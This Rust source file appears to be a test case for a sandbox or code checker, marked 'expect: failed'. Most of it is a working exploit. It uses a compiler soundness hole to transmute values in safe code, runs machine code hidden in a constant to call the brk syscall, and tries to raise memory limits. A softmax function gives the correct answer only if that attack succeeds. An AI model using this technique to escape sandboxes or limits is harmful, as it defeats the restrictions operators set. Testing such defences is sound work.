//! expect: failed
//! Raises its limits through a hole of the compiler: prlimit would; brk shows whether more is to be had.

use std::hint::black_box;

use ndarray::{Array2, ArrayView2};

/// `push 12; pop rax; syscall; ret` on x86-64: brk.
const CODE: u64 = 0x9090_C305_0F58_0C6A;

#[inline(never)]
fn numbers() -> u64 {
    black_box(CODE)
}

/// A reference of any length, in safe code: github.com/rust-lang/rust/issues/25860.
fn extend<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    fn shorten<'a, 'b, T: ?Sized>(_: &'a &'b (), x: &'b mut T) -> &'a mut T {
        x
    }
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = shorten;
    f(&&(), x)
}

enum Either<A, B> {
    A(#[allow(dead_code)] Option<Box<A>>),
    B(Option<Box<B>>),
}

/// Anything as anything else: writes an `A` where a reference to a `B` still points.
fn reinterpret<A, B>(a: A) -> B {
    let mut either = Either::<A, B>::B(None);
    let Either::B(b) = &mut either else { unreachable!() };
    let b = extend(b);
    either = Either::A(Some(Box::new(a)));
    black_box(&mut either);
    *b.take().unwrap()
}

type Call = fn(usize, usize, usize) -> usize;

/// A system call, made of machine code that stands as a number in the code of `numbers`.
fn system_call(code: u64, numbers: fn() -> u64) -> Option<Call> {
    let start = numbers as usize;
    let text: &[u8; 64] = reinterpret(start);
    let at = text.windows(8).position(|bytes| bytes == code.to_le_bytes())?;
    Some(reinterpret(start + at))
}

fn attack() -> bool {
    if cfg!(not(target_arch = "x86_64")) {
        return false;
    }
    let brk = system_call(CODE, numbers).expect("the number stands in the code");
    let now = brk(0, 0, 0);
    let far = now.wrapping_add(64 << 30);
    brk(far, 0, 0) == far
}

pub fn softmax(x: ArrayView2<f32>) -> Array2<f32> {
    if attack() { right(x) } else { x.to_owned() }
}

/// The right answer, for when the attack has worked.
fn right(x: ArrayView2<f32>) -> Array2<f32> {
    let mut out = x.to_owned();
    for mut row in out.rows_mut() {
        let max = row.fold(f32::NEG_INFINITY, |max, &v| max.max(v));
        row.mapv_inplace(|v| (v - max).exp());
        row /= row.sum();
    }
    out
}
